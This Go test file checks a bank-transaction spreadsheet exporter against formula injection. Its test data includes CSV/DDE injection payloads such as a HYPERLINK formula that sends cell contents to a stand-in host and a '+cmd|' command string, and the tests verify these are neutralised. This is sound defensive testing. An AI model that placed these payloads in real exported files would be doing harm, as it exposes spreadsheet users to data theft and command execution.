package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"baoco/app"
	"baoco/app/sheet"
	"baoco/app/statement"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

var zone = time.FixedZone("", 7*3600)

// contents are what payers can write; none of them may become a formula.
var contents = []string{
	"DH10293 thanh toán", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1",
	`"=1+1`, "  =1+1", "\u200b=1", "＝1+1", "− 5", "'=1", `quotes "and", commas; semicolons`, "two\nlines", "\u202Egnp.exe", "_x0041_",
	"DH1;=cmd|'/C calc'!A0;", "DH2, +1+1,", "a\x01b", "<c>&amp;</c>", "",
}

func transactions() (list []app.Transaction) {
	for i, content := range contents {
		t := app.Transaction{
			ID: int64(i + 1), Bank: "ACB", AccountNumber: "0072413870", Number: "FT00" + string(rune('A'+i)), Type: app.In,
			Amount:  1_549_000 + int64(i),
			Content: content, Time: time.Date(2026, 11, 21, 10, 59, i, 0, zone), CreatedAt: time.Date(2026, 11, 21, 11, 0, 1, 0, zone),
		}
		if i%3 == 1 {
			t.Type = app.Out
		}
		switch i {
		case 2: // only its day is known
			t.Time, t.DateOnly = time.Date(2026, 11, 21, 0, 0, 0, 0, zone), true
		case 3:
			t.Time, t.DateFlaw, t.Note = t.CreatedAt, app.DateImpossible, "=1+1"
		}
		if t.Type == app.In {
			t.Revenue = []string{"revenue", "loan", "other"}[i/3%3]
			t.RevenueNote = []string{"", "Lan", ""}[i/3%3]
		}
		list = append(list, t)
	}
	return list
}

func write(t *testing.T, format sheet.Format, lang app.Lang, extra ...sheet.Extra) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := sheet.New(format, &b, lang, zone, append(extra, sheet.Extra{})[0])
	must(t, err)
	for _, one := range transactions() {
		must(t, w.Add(one))
	}
	must(t, w.Close())
	return b.Bytes()
}

func TestCSV(t *testing.T) {
	data := write(t, sheet.CSV, app.Vietnamese)
	text, found := strings.CutPrefix(string(data), "\uFEFF")
	if !found {
		t.Error("no byte order mark: Excel would read another encoding")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	must(t, err)
	want := [][]string{
		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc",
			"Giờ ước lượng", "Ghi chú cửa hàng", "Mã thanh toán"},
		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "không", "", ""},
		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B",
			"2026-11-21 11:00:01", "không", "", ""},
		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "không", "", ""},
		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "có", "'=1+1", ""},
	}
	if diff := cmp.Diff(want, rows[:5]); diff != "" {
		t.Error(diff)
	}
	if len(rows) != len(contents)+1 {
		t.Errorf("%d rows", len(rows))
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if strings.HasPrefix(strings.TrimLeft(cell, " \"\u200b"), "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") ||
				strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
				t.Errorf("a spreadsheet computes %q", cell)
			}
		}
	}
}

// TestCSVCutElsewhere: a program that cuts the file at another character than it was made
// for, or at several, finds no formula either.
func TestCSVCutElsewhere(t *testing.T) {
	for _, format := range []sheet.Format{sheet.CSV, sheet.Semicolons} {
		file := string(write(t, format, app.English))
		for cell := range strings.FieldsFuncSeq(file, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if first := strings.TrimLeft(cell, " \"\u200b"); first != "" && strings.ContainsAny(first[:1], "=+-@") {
				t.Errorf("%s: a spreadsheet computes %q", format, cell)
			}
		}
	}
}

// Another implementation of the format opens the file and finds texts, numbers
// and dates where they belong.
func TestXLSX(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, app.English)))
	must(t, err)
	defer f.Close()
	names := f.GetSheetList()
	if len(names) != 1 {
		t.Fatalf("sheets %q", names)
	}
	paper, err := f.GetPageLayout(names[0])
	must(t, err)
	if *paper.Size != 9 || *paper.FitToHeight != 0 || *paper.Orientation != "landscape" {
		t.Errorf("on paper: %+v", paper)
	}
	rows, err := f.GetRows(names[0])
	must(t, err)
	want := [][]string{
		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at",
			"Date flagged", "Shop note", "Payment code"},
		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "no"},
		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B",
			"2026-11-21 11:00:01", "no"},
		{"3", "2026-11-21", "ACB", "0072413870", "1,549,002", "", "+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "no"},
		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1,549,003", "", "-2+3", "FT00D", "2026-11-21 11:00:01", "yes", "=1+1"},
	}
	if diff := cmp.Diff(want, rows[3:8]); diff != "" {
		t.Error(diff)
	}
	if len(rows) != len(contents)+5 {
		t.Errorf("%d rows", len(rows))
	}
	for y := range rows {
		for x := range rows[y] {
			at, err := excelize.CoordinatesToCellName(x+1, y+1)
			must(t, err)
			if formula, err := f.GetCellFormula(names[0], at); err != nil || formula != "" {
				t.Errorf("%s is a formula: %q, %v", at, formula, err)
			}
		}
	}
}

// Each row and each cell says where it stands: exceljs, for one, opens no other file.
func TestReferences(t *testing.T) {
	z, err := zip.NewReader(bytes.NewReader(write(t, sheet.XLSX, app.English)), int64(len(write(t, sheet.XLSX, app.English))))
	must(t, err)
	part, err := z.Open("xl/worksheets/sheet1.xml")
	must(t, err)
	var found struct {
		Rows []struct {
			At    string `xml:"r,attr"`
			Cells []struct {
				At string `xml:"r,attr"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	must(t, xml.NewDecoder(part).Decode(&found))
	for y, row := range found.Rows {
		if row.At != strconv.Itoa(y+1) {
			t.Errorf("row %d is at %q", y+1, row.At)
		}
		for _, cell := range row.Cells {
			if x, atY, err := excelize.CellNameToCoordinates(cell.At); err != nil || atY != y+1 || x > 12 {
				t.Errorf("row %d has a cell at %q", y+1, cell.At)
			}
		}
	}
	if len(found.Rows) != len(contents)+5 || found.Rows[4].Cells[5].At != "G5" { // F5, money out, is empty
		t.Errorf("%d rows, %+v", len(found.Rows), found.Rows[4])
	}
}

// XLSX says above the rows what they are, and below them what they come to.
func TestHeadingAndTotals(t *testing.T) {
	rowsOf := func(e sheet.Extra) (first []string, last []string) {
		f, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, app.Vietnamese, e)))
		must(t, err)
		defer f.Close()
		rows, err := f.GetRows(f.GetSheetList()[0])
		must(t, err)
		for _, row := range rows {
			if len(row) > 1 {
				break
			}
			first = append(first, strings.Join(row, ""))
		}
		return first, rows[len(rows)-1]
	}
	day := func(text string) time.Time { at, err := app.ParseTime(text, zone); must(t, err); return at }
	first, last := rowsOf(sheet.Extra{Shop: "Quán Lan", From: day("2026-11-01 00:00:00"), To: day("2026-12-01 00:00:00"), Filter: "“DH”"})
	want := []string{"Giao dịch", "Quán Lan", "Tất cả tài khoản", "Từ: 01/11/2026", "Đến hết: 30/11/2026", "Chỉ gồm: “DH”"}
	if diff := cmp.Diff(want, first); diff != "" {
		t.Error(diff)
	}
	var in, out int64
	for _, one := range transactions() {
		if one.Type == app.In {
			in += one.Amount
		} else {
			out += one.Amount
		}
	}
	want = []string{"Tổng cộng", "Số giao dịch: " + strconv.Itoa(len(contents)), "", "",
		app.GroupDigits(in, app.English), app.GroupDigits(out, app.English)}
	if diff := cmp.Diff(want, last); diff != "" {
		t.Error(diff)
	}
	first, _ = rowsOf(sheet.Extra{Accounts: "ACB 0072413870", From: day("2026-11-01 10:00:00"), To: day("2026-11-01 11:00:00")})
	want = []string{"Giao dịch", "", "ACB 0072413870", "Từ: 01/11/2026 10:00:00", "Đến hết: 01/11/2026 10:59:59"}
	if diff := cmp.Diff(want, first); diff != "" {
		t.Error(diff)
	}
}

// A shop that marks what is no revenue has it in its files.
func TestRevenueColumns(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(string(write(t, sheet.CSV, app.English, sheet.Extra{Revenue: true}))[3:])).ReadAll()
	must(t, err)
	var got [][]string
	for _, row := range rows[:8] {
		got = append(got, row[12:])
	}
	want := [][]string{
		{"Is revenue", "Not revenue because"}, {"yes", ""}, {"", ""}, {"yes", ""}, {"no", "Loan: Lan"}, {"", ""}, {"no", "Loan: Lan"},
		{"no", "Other"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// What is written is read back as the same transactions.
func TestReadBack(t *testing.T) {
	for _, format := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		for _, lang := range []app.Lang{app.English, app.Vietnamese} {
			t.Run(string(format)+" "+string(lang), func(t *testing.T) {
				path := filepath.Join(t.TempDir(), "export")
				must(t, os.WriteFile(path, write(t, format, lang, sheet.Extra{Receiving: true, Revenue: true,
					Shop: "Tổng kho 24h", Accounts: "ACB 0072413870", From: transactions()[0].Time, Filter: "≥ 200.000\u00a0₫"}), 0o600))
				r, err := statement.Open(t.Context(), path, statement.Options{Zone: zone})
				must(t, err)
				defer r.Close()
				for _, want := range transactions() {
					row, err := r.Next()
					if err != nil {
						t.Fatalf("row %d: %v", want.ID, err)
					}
					if row.Fault != nil {
						t.Errorf("row %d: %+v", want.ID, row.Fault)
					}
					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type,
						Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: row.DateOnly, DateFlaw: want.DateFlaw,
						CreatedAt: want.CreatedAt, Note: want.Note, Revenue: want.Revenue, RevenueNote: want.RevenueNote}
					if diff := cmp.Diff(want, got); diff != "" {
						t.Error(diff)
					}
				}
				if row, err := r.Next(); err != io.EOF || len(r.Differences()) > 0 {
					t.Errorf("after the last one: %+v, %v, %+v", row, err, r.Differences())
				}
			})
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, content := range contents {
		f.Add(content)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := sheet.Guard(text)
		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(text, "'", "") {
			t.Fatalf("%q became %q", text, got)
		}
		for cell := range strings.FieldsFuncSeq(got, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if first := strings.TrimLeft(cell, " \"\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
				t.Fatalf("a spreadsheet computes %q of %q", cell, got)
			}
		}
	})
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// Excel with Vietnamese settings cuts at semicolons; package statement reads such a
// file back.
func TestSemicolons(t *testing.T) {
	commas, semicolons := write(t, sheet.CSV, app.Vietnamese), write(t, sheet.Semicolons, app.Vietnamese)
	if !bytes.HasPrefix(semicolons, []byte("\uFEFFMã baoco;Thời gian;")) {
		t.Errorf("it begins with %q", semicolons[:40])
	}
	read := func(file []byte, comma rune) [][]string {
		r := csv.NewReader(bytes.NewReader(file))
		r.Comma = comma
		rows, err := r.ReadAll()
		must(t, err)
		return rows
	}
	if d := cmp.Diff(read(commas, ','), read(semicolons, ';')); d != "" {
		t.Error(d)
	}
	if sheet.Semicolons.Ending() != ".csv" || !sheet.Semicolons.Known() {
		t.Error("it isn't a CSV file")
	}
}

// A number below 0, such as what a report has left of a bad day, is a number in every format and never a text.
func TestNumbersBelowZero(t *testing.T) {
	t.Parallel()
	for format, want := range map[sheet.Format]string{sheet.CSV: "\uFEFFx\r\n-5\r\n-7\r\n", sheet.Semicolons: "\uFEFFx\r\n-5\r\n-7\r\n"} {
		var b bytes.Buffer
		rows, err := sheet.NewRows(format, &b, sheet.Layout{Columns: []sheet.Column{{Name: app.Text{EN: "x", VI: "x"}}}, Lang: app.English,
			Zone: zone})
		must(t, err)
		must(t, rows.Row(sheet.Amount(-5)))
		must(t, rows.Row(sheet.Number(-7)))
		must(t, rows.Close())
		if b.String() != want {
			t.Errorf("%s: %q, want %q", format, b.String(), want)
		}
	}
}
